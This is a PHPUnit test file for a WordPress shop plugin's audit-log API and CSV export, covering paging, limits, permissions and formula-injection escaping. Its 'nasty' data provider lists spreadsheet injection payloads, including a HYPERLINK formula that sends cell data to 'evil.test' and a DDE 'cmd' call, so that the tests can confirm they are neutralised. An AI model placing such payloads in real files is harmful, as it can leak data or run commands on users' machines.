<?php

declare(strict_types=1);

namespace DevSkyy\Tests;

use DevSkyy\Actions;
use DevSkyy\Csv;
use DevSkyy\Rest\Activity;
use DevSkyy\Sidecar\Signature;
use WP_REST_Request;
use WP_REST_Response;

/** The audit's routes and its file. */
final class Activity_Test extends Shop_Test_Case
{
    private const LOG = 'GET /api/v1/security/audit-log';

    private static function entry(int $n, array $more = []): array
    {
        return $more + ['n' => $n, 'at' => '2026-11-26T12:00:00Z', 'by' => 'person', 'who' => ['id' => 7, 'login' => 'anna'], 'action' => 'run.ask', 'target' => 't', 'detail' => (object) [], 'request_id' => 'r', 'hash' => 'h'];
    }

    /** The file as a browser gets it: what the REST server would print, its headers, and its rows as a CSV parser reads them. */
    private function file(array $query = []): array
    {
        $request = new WP_REST_Request('GET', '/devskyy/v1/audit/export');
        $request->set_query_params($query);
        $response = rest_do_request($request);
        ob_start();
        $served = apply_filters('rest_pre_serve_request', false, $response, $request, rest_get_server());
        $text = (string) ob_get_clean();
        remove_all_filters('rest_pre_serve_request');
        return [$response, $served, $text, self::parsed($text)];
    }

    private static function parsed(string $text): array
    {
        $file = fopen('php://memory', 'w+');
        fwrite($file, substr($text, strlen(Csv::BOM)));
        rewind($file);
        $rows = [];
        // Without an escape character, as RFC 4180 has none.
        while (($row = fgetcsv($file, null, ',', '"', '')) !== false) {
            $rows[] = $row;
        }
        return $rows;
    }

    public static function nasty(): array
    {
        return array_map(static fn (string $text): array => [$text], [
            '=1+1', '+1', '-1', '@SUM(A1)', "\t=1", "\r=1", "\n=1", ' =1', "  \u{A0}=1", "\u{FEFF}=1", '="1"', '"=1"', "'=1", '＝1', '＠x',
            '=HYPERLINK("http://evil.test?x="&A1,"x")', '=cmd|\'/c calc\'!A0', 'a;=1', "a\n=1", 'a; "=1', "a\t+1", '-2+3+cmd|x', '=,"', "=\0",
        ]);
    }

    /** @dataProvider nasty */
    public function test_no_cell_is_a_formula(string $nasty): void
    {
        $line = Csv::line(['a', $nasty, 'z']);
        $rows = self::parsed(Csv::BOM . $line);
        self::assertCount(1, $rows);
        self::assertSame(['a', 'z'], [$rows[0][0], $rows[0][2]], 'its neighbours stay where they are');
        // In a spreadsheet that splits at another sign, or trims what stands before, it is none either.
        foreach ([$rows[0], ...array_map(static fn (string $sign): array => explode($sign, $rows[0][1]), [';', "\t", "\n", "\r"])] as $cells) {
            foreach ($cells as $cell) {
                self::assertDoesNotMatchRegularExpression('/^[\s"\x{A0}\x{FEFF}]*[=+\-@＝＋－＠]/u', $cell);
            }
        }
        self::assertSame(trim(str_replace(["\0", "'"], '', $nasty), "\t\r\n "), trim(str_replace("'", '', $rows[0][1]), "\t\r\n "), 'nothing but apostrophes was added');
    }

    public function test_plain_text_stays_as_it_is(): void
    {
        $texts = ['anna', 'Silk scarf, red', 'says "no"', "two\nlines", '12', 'é ü 漢字 🙂', '', 'a=b', 'x - y', ' padded '];
        self::assertSame([$texts], self::parsed(Csv::BOM . Csv::line($texts)));
        self::assertSame("a,\"b,c\",\"d\"\"e\"\r\n", Csv::line(['a', 'b,c', 'd"e']));
        self::assertSame(1, preg_match('//u', Csv::line(["broken \xC3("])));
    }

    public function test_the_file_holds_all_pages_of_what_was_asked_for(): void
    {
        $this->answers = [
            self::LOG . '?action=proposal.&cursor=201' => ['ok' => true, 'items' => [self::entry(201, ['action' => 'robot.new', 'failed' => true])], 'total' => 2],
            self::LOG => ['ok' => true, 'items' => [self::entry(202, ['target' => '=evil()', 'before' => ['regular_price' => '40.00'], 'after' => ['regular_price' => '34.00', 'on' => true]])], 'total' => 2, 'next' => '201'],
        ];
        [$response, $served, $text, $rows] = $this->file(['action' => 'proposal.', 'q' => '']);
        self::assertTrue($served);
        self::assertStringStartsWith(Csv::BOM, $text);
        self::assertSame(200, $response->get_status());
        self::assertSame('text/csv; charset=utf-8', $response->get_headers()['Content-Type']);
        self::assertMatchesRegularExpression('/^attachment; filename="devskyy-activity-\d{4}-\d\d-\d\d\.csv"$/', $response->get_headers()['Content-Disposition']);
        self::assertSame(['202', '2026-11-26T12:00:00Z', 'anna', 'Started a run', 'run.ask', "'=evil()", 'regular_price: 40.00', 'regular_price: 34.00, on: true', '', '', 'r', 'h'], $rows[1]);
        self::assertSame(['robot.new', 'robot.new', 'yes'], [$rows[2][3], $rows[2][4], $rows[2][9]]);
        self::assertCount(3, $rows);
        self::assertCount(12, array_unique($rows[0]));
        self::assertSame(2, count($this->sent));
    }

    public function test_a_file_ends_at_its_limit_and_says_so(): void
    {
        $n = 30000;
        $this->answers = [self::LOG => static function () use (&$n): array {
            $items = array_map(static fn (int $i): array => self::entry($n - $i), range(1, 200));
            $n -= 200;
            return ['ok' => true, 'items' => $items, 'total' => 30000, 'next' => (string) $n];
        }];
        [, , , $rows] = $this->file();
        self::assertCount(Activity::MOST + 2, $rows);
        self::assertSame('Only the newest 10,000 of 30,000 entries are in this file. Choose a shorter period to get the others.', end($rows)[0]);
        self::assertCount(50, $this->sent);
    }

    public function test_a_file_that_breaks_off_says_so(): void
    {
        $this->answers = [
            self::LOG . '?cursor' => self::refusal(503, 'database_locked'),
            self::LOG => ['ok' => true, 'items' => [self::entry(2)], 'total' => 2, 'next' => '2'],
        ];
        [, , , $rows] = $this->file();
        self::assertSame('The file ends too early: It said no.', end($rows)[0]);
    }

    public function test_without_the_sidecar_there_is_an_error_and_no_file(): void
    {
        [$response, $served, $text] = $this->file();
        self::assertSame([503, 'sidecar_unreachable', ''], [$response->get_status(), $response->get_data()['code'], $text]);
        self::assertFalse($served);
    }

    public function test_other_answers_are_not_taken_for_the_file(): void
    {
        $this->answers = [self::LOG => ['ok' => true, 'items' => [], 'total' => 0]];
        rest_do_request(new WP_REST_Request('GET', '/devskyy/v1/audit/export'));
        ob_start();
        $served = apply_filters('rest_pre_serve_request', false, new WP_REST_Response(['x' => 1]), new WP_REST_Request('GET', '/wp/v2/posts'), rest_get_server());
        self::assertSame([false, ''], [$served, ob_get_clean()]);
        remove_all_filters('rest_pre_serve_request');
    }

    public function test_the_ledger_says_what_a_proposal_changed(): void
    {
        $one = $this->product();
        $two = $this->product(['name' => 'Wool <b>coat</b>', 'regular_price' => '80', 'manage_stock' => true, 'stock_quantity' => 5]);
        $single = self::applied($one->get_id(), ['regular_price' => ['20', '18']]);
        $both = self::id();
        self::apply($both, [
            self::patch($both, 1, 'wc/v3/products/' . $one->get_id(), ['regular_price' => ['18', '17'], 'sale_price' => ['', '']]),
            self::patch($both, 2, 'wc/v3/products/' . $two->get_id(), ['stock_delta' => [5, 7]]),
        ]);
        $entries = [
            self::entry(5, ['action' => 'proposal.undone', 'target' => $single]),
            self::entry(4, ['action' => 'proposal.applied', 'target' => $both, 'before' => (object) ['state' => 'applying'], 'after' => (object) ['state' => 'applied']]),
            self::entry(3, ['action' => 'proposal.approve', 'target' => $single]),
            self::entry(2, ['action' => 'proposal.reject', 'target' => self::id(), 'before' => (object) ['state' => 'pending'], 'after' => (object) ['state' => 'rejected']]),
            self::entry(1),
        ];
        $this->answers = [self::LOG => ['ok' => true, 'items' => $entries, 'total' => 5]];
        $items = $this->call('GET', '/devskyy/v1/audit', null, ['limit' => '50'])->get_data()->items;
        self::assertSame([['path' => 'regular_price', 'of' => '', 'before' => '18', 'after' => '20']], $items[0]->changed);
        self::assertSame([['path' => 'regular_price', 'of' => 'Silk scarf', 'before' => '18', 'after' => '17'], ['path' => 'stock_delta', 'of' => 'Wool coat', 'before' => 5, 'after' => 12]], $items[1]->changed);
        self::assertSame([['id' => $one->get_id(), 'name' => 'Silk scarf'], ['id' => $two->get_id(), 'name' => 'Wool coat']], $items[1]->products);
        self::assertSame([['path' => 'regular_price', 'of' => '', 'before' => '20', 'after' => '18']], $items[2]->changed);
        self::assertSame([[], false], [$items[3]->products, isset($items[3]->changed)]);
        self::assertFalse(isset($items[4]->products));
        [, , , $rows] = $this->file();
        self::assertSame(["Silk scarf, Wool coat ($both)", 'Silk scarf regular_price: 18, Wool coat stock_delta: 5', 'Silk scarf regular_price: 17, Wool coat stock_delta: 12'], array_slice($rows[2], 5, 3));
        self::assertSame(['state: pending', 'state: rejected'], array_slice($rows[4], 6, 2));
    }

    public function test_searches_are_not_kept_but_the_first_page_is(): void
    {
        $this->answers = [self::LOG => ['ok' => true, 'items' => [self::entry(1)], 'total' => 1]];
        self::assertSame(200, $this->call('GET', '/devskyy/v1/audit', null, ['limit' => '50'])->get_status());
        self::assertSame(200, $this->call('GET', '/devskyy/v1/audit', null, ['q' => 'anna', 'limit' => '50'])->get_status());
        self::assertStringContainsString('limit=50&q=anna', $this->sent[1]['path']);
        $this->answers = [];
        self::assertSame(1, $this->call('GET', '/devskyy/v1/audit', null, ['limit' => '50'])->get_data()->items[0]->n);
        self::assertSame(503, $this->call('GET', '/devskyy/v1/audit', null, ['q' => 'anna', 'limit' => '50'])->get_status());
    }

    public function test_the_sidecar_hears_who_asks(): void
    {
        $this->answers = [self::LOG => ['ok' => true, 'items' => [], 'total' => 0]];
        $this->file(['person' => 'user:7']);
        $claims = json_decode(Signature::decode(explode('.', substr($this->sent[0]['headers']['Authorization'], 7))[1]));
        self::assertSame(get_current_user_id(), $claims->who->id);
    }

    /** @dataProvider routes */
    public function test_only_those_who_may_manage_the_shop(string $route): void
    {
        foreach (['editor' => 403, 'customer' => 403, '' => 401] as $role => $status) {
            wp_set_current_user($role === '' ? 0 : $this->user($role));
            self::assertSame($status, $this->call('GET', $route)->get_status(), $role);
        }
        self::assertSame([], $this->sent);
    }

    public static function routes(): array
    {
        return [['/devskyy/v1/audit'], ['/devskyy/v1/audit/summary'], ['/devskyy/v1/audit/export']];
    }

    public function test_bad_filters_are_refused_here(): void
    {
        foreach ([['limit' => '0'], ['limit' => '201'], ['since' => 'yesterday'], ['failed' => 'perhaps'], ['q' => str_repeat('x', 101)]] as $query) {
            self::assertSame(400, $this->call('GET', '/devskyy/v1/audit', null, $query)->get_status(), (string) wp_json_encode($query));
        }
        self::assertSame([], $this->sent);
    }

    public function test_every_group_is_made_of_known_actions(): void
    {
        foreach (explode(',', implode(',', array_keys(Actions::groups()))) as $start) {
            self::assertNotSame([], array_filter(array_keys(Actions::words()), static fn (string $action): bool => str_starts_with($action, $start)), $start);
        }
    }
}
